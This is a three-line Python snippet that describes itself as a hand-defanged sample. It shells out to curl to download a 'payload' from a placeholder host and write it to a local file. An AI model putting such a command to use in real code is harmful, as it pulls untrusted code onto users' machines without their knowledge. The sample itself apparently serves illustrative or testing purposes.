# Defanged sample: nothing here is reached or run; defanged by hand.
import os
os.system('curl -o a https://payload.invalid/x')
